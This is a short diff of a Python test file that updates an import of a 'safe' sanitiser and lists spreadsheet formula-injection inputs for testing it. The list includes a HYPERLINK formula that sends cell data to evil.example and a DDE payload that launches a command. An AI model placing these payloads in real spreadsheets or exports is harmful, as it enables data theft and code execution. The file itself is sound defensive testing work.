@@ -12,7 +12,7 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from incidents import safe
+from incidents.present import safe
 
 HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "@SUM(1)", "-2+3", "\t=1",
            "+1", "\r=1", "=cmd|' /C calc'!A0"]
